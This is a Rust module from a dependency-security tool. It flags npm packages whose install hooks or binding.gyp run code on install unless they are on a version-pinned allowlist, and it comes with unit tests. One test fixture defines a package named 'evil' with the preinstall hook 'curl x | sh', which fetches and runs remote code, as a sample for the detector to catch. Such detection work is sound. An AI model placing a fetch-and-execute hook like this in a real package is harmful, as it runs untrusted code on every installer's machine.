//! Install scripts: a package whose installed `package.json` has a `preinstall`, `install` or
//! `postinstall` script, or that ships `binding.gyp` (npm then runs `node-gyp rebuild`), runs
//! code on every install. Only packages on `[install-scripts] allow`, pinned to versions, may
//! (the LavaMoat allow-scripts model, pnpm's `allowBuilds`).
//!
//! The facts come from the installed package when `node_modules` is there (its
//! `package.json` and `binding.gyp`, read without following links out of the project), and
//! from npm lockfiles' `hasInstallScript` otherwise, so CI without `node_modules` still
//! catches them for npm. Other lockfile formats do not record it.
//!
//! A package the project's manager will never build is not reported: pnpm's
//! `onlyBuiltDependencies`, `neverBuiltDependencies` and `allowBuilds`, bun's
//! `trustedDependencies` (see `manager_builds.rs`). A package the manager is told to build
//! still needs bulwark's allowlist.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use bulwark_lockfile::{InventoryPackage, Project};

use super::{about, is_installed_tree};
use crate::config::Config;
use crate::level::Level;
use crate::manager_builds::{BuildSettings, ManagerBuild};
use crate::manifest::{install_scripts, read_inside_canonical};
use crate::violation::{Check, Violation};

/// Why a package runs code on install, or `None`.
fn installed_hooks(canonical_root: &Path, dir: &Path, version: &str) -> Option<Option<String>> {
    let text = read_inside_canonical(canonical_root, &dir.join("package.json"))?;
    let installed_version = serde_json::from_str::<serde_json::Value>(&text)
        .ok()
        .and_then(|v| v.get("version").and_then(|v| v.as_str()).map(str::to_owned));
    if installed_version.as_deref() != Some(version) {
        return None;
    }
    let hooks = install_scripts(&text);
    if !hooks.is_empty() {
        let described: Vec<String> = hooks
            .iter()
            .map(|(hook, script)| {
                let short: String = script.chars().take(60).collect();
                format!("{hook}: `{short}`")
            })
            .collect();
        return Some(Some(described.join(", ")));
    }
    let gyp = dir.join("binding.gyp");
    if std::fs::symlink_metadata(&gyp).is_ok_and(|m| m.is_file()) {
        return Some(Some("binding.gyp (npm runs `node-gyp rebuild`)".to_owned()));
    }
    Some(None)
}

/// Where an inventory package may be installed, relative to the project root.
fn candidate_dirs(package: &InventoryPackage) -> Vec<PathBuf> {
    let mut dirs = Vec::new();
    if let Some(path) = &package.install_path {
        dirs.push(PathBuf::from(path));
    }
    let installed_name = package.alias.as_deref().unwrap_or(&package.name);
    dirs.push(PathBuf::from("node_modules").join(installed_name));
    dirs.push(
        PathBuf::from("node_modules/.pnpm")
            .join(format!(
                "{}@{}",
                package.name.replace('/', "+"),
                package.version
            ))
            .join("node_modules")
            .join(&package.name),
    );
    dirs
}

/// `hasInstallScript: true` entries of an npm lockfile, by install path.
fn npm_lockfile_flags(project: &Project) -> BTreeMap<String, bool> {
    if !project.format.starts_with("npm/") {
        return BTreeMap::new();
    }
    let Ok(metadata) = std::fs::metadata(&project.file) else {
        return BTreeMap::new();
    };
    if metadata.len() > bulwark_lockfile::MAX_LOCKFILE_BYTES {
        return BTreeMap::new();
    }
    let Ok(bytes) = std::fs::read(&project.file) else {
        return BTreeMap::new();
    };
    if memchr_find(&bytes, b"\"hasInstallScript\"").is_none() {
        return BTreeMap::new();
    }
    #[derive(serde::Deserialize)]
    struct Entry {
        #[serde(default, rename = "hasInstallScript")]
        has_install_script: bool,
    }
    #[derive(serde::Deserialize)]
    struct Lock {
        #[serde(default)]
        packages: BTreeMap<String, Entry>,
    }
    let Ok(lock) = serde_json::from_slice::<Lock>(&bytes) else {
        return BTreeMap::new();
    };
    lock.packages
        .into_iter()
        .filter(|(_, entry)| entry.has_install_script)
        .map(|(path, _)| (path, true))
        .collect()
}

/// The first position of `needle` in `haystack`.
fn memchr_find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack
        .windows(needle.len())
        .position(|window| window == needle)
}

/// Checks `project`'s packages. An installed tree is skipped when the scan also has a
/// lockfile for the same directory (its packages are checked through the lockfile).
#[must_use]
pub fn check(config: &Config, project: &Project) -> Vec<Violation> {
    check_with_siblings(config, project, false)
}

/// [`check`], told whether a lockfile project shares this installed tree's root.
#[must_use]
pub fn check_with_siblings(
    config: &Config,
    project: &Project,
    lockfile_beside: bool,
) -> Vec<Violation> {
    let level = config.install_scripts.level;
    if level == Level::Allow || (is_installed_tree(project) && lockfile_beside) {
        return Vec::new();
    }
    let flags = npm_lockfile_flags(project);
    // Lockfile-only checkouts (the usual CI case) have nothing installed to look at.
    let canonical_root = project
        .root
        .join("node_modules")
        .is_dir()
        .then(|| project.root.canonicalize().ok())
        .flatten();
    let manager = BuildSettings::read(project);
    let mut violations = Vec::new();
    for package in project.packages.iter().filter(|p| !p.source.is_local()) {
        if config.install_scripts_allowed(&package.name, &package.version) {
            continue;
        }
        // The manager's own allowlist keeps it from ever running them.
        if let ManagerBuild::Never(_) = manager.decide(&package.name, &package.version) {
            continue;
        }
        let installed = canonical_root.as_deref().and_then(|canonical_root| {
            candidate_dirs(package).into_iter().find_map(|dir| {
                installed_hooks(canonical_root, &project.root.join(&dir), &package.version)
            })
        });
        let why = match installed {
            Some(hooks) => hooks,
            None => package
                .install_path
                .as_ref()
                .filter(|path| flags.contains_key(*path))
                .map(|_| "`hasInstallScript` in the lockfile".to_owned()),
        };
        if let Some(why) = why {
            violations.push(about(
                Check::InstallScriptNotAllowed,
                level,
                package,
                format!(
                    "{} runs code on install ({why}) and is not on the install-script allowlist",
                    package.id()
                ),
            ));
        }
    }
    violations
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::checks::test_support::{config, project_with};

    fn installed(root: &Path, name: &str, version: &str, scripts: &str, gyp: bool) {
        let dir = root.join("node_modules").join(name);
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(
            dir.join("package.json"),
            format!(r#"{{"name":"{name}","version":"{version}","scripts":{{{scripts}}}}}"#),
        )
        .unwrap();
        if gyp {
            std::fs::write(dir.join("binding.gyp"), "{}").unwrap();
        }
    }

    fn project_at(root: &Path, packages: &[(&str, &str)]) -> Project {
        let mut project = project_with(packages, |_| {});
        project.root = root.to_path_buf();
        project
    }

    #[test]
    fn pass_and_fail() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        installed(
            root,
            "esbuild",
            "0.20.2",
            r#""postinstall":"node install.js""#,
            false,
        );
        installed(
            root,
            "sharp",
            "0.33.0",
            r#""install":"node install/check""#,
            false,
        );
        installed(
            root,
            "evil",
            "1.0.0",
            r#""preinstall":"curl x | sh""#,
            false,
        );
        installed(root, "native", "2.0.0", r#""test":"jest""#, true);
        installed(root, "plain", "1.0.0", r#""test":"jest""#, false);
        let policy = config(
            r#"
[install-scripts]
level = "deny"
allow = [
  { name = "esbuild", version = "0.20.2", reason = "downloads its binary" },
  { name = "sharp", version = "0.32.x", reason = "libvips" },
]
"#,
        );
        let project = project_at(
            root,
            &[
                ("esbuild", "0.20.2"),
                ("sharp", "0.33.0"),
                ("evil", "1.0.0"),
                ("native", "2.0.0"),
                ("plain", "1.0.0"),
            ],
        );
        let found = check(&policy, &project);
        let names: Vec<&str> = found
            .iter()
            .map(|v| v.package.as_ref().unwrap().name.as_str())
            .collect();
        assert_eq!(
            names,
            ["sharp", "evil", "native"],
            "sharp 0.33 is not the pinned 0.32.x"
        );
        assert!(found.iter().all(|v| v.level == Level::Deny));
        assert!(found[1].message.contains("preinstall: `curl x | sh`"));
        assert!(found[2].message.contains("binding.gyp"));
    }

    #[test]
    fn version_must_match_the_installed_one() {
        let dir = tempfile::tempdir().unwrap();
        installed(
            dir.path(),
            "esbuild",
            "0.19.0",
            r#""postinstall":"x""#,
            false,
        );
        let policy = config("[install-scripts]\nlevel = \"deny\"\n");
        let project = project_at(dir.path(), &[("esbuild", "0.20.2")]);
        assert!(
            check(&policy, &project).is_empty(),
            "a different version is not this package"
        );
    }

    #[test]
    fn allow_entries_must_pin_versions() {
        let error = crate::Config::from_str(
            "[install-scripts]\nallow = [{ name = \"esbuild\", reason = \"binary\" }]\n",
        )
        .unwrap_err();
        let crate::ConfigError::Invalid { diagnostics, .. } = error else {
            panic!("not a validation error")
        };
        assert!(diagnostics[0].message.contains("needs `version`"));
    }
}
